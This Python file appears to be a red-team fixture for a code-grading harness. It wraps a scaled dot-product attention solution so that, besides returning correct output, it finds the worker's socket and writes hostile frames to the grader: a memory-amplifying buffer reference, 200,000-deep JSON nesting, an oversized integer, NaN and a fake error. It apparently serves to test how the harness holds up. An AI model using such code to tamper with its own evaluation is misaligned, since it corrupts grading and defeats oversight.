#@include solution

# --- attack: talk to the grader directly through the worker's socket, before the real reply
import json as _json
import os as _os
import stat as _stat
import struct as _struct

_solution = scaled_dot_product_attention_np


def _socket_fd():
    for fd in range(3, 256):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def _frame(head, buffers=()):
    parts = [_struct.pack("<I", len(head)), head, _struct.pack("<I", len(buffers))]
    for buf in buffers:
        parts += [_struct.pack("<Q", len(buf)), buf]
    return b"".join(parts)


def _hostile(variant):
    if variant == 0:        # one 1 MiB buffer referenced 2,000 times: 2 GB if copied per reference
        node = {"A": 0, "dtype": "<f4", "shape": [1 << 18]}
        return _frame(_json.dumps({"ok": {"L": [node] * 2000}}).encode(), [bytes(1 << 20)])
    if variant == 1:        # nested 200,000 deep: RecursionError in json
        return _frame(b'{"ok": ' + b"[" * 200000 + b"]" * 200000 + b"}")
    if variant == 2:        # a 5,001-digit integer: ValueError in json
        return _frame(b'{"ok": ' + b"7" * 5001 + b"}")
    if variant == 3:
        return _frame(b"NaN")
    return _frame(_json.dumps({"error": "not a record"}).encode())


def scaled_dot_product_attention_np(Q, K, V, mask=None):
    out = _solution(Q, K, V, mask)
    fd = _socket_fd()
    if fd is not None:
        variant = int(abs(float(np.asarray(Q).sum())) * 1000) % 5
        _os.write(fd, _hostile(variant))
    return out
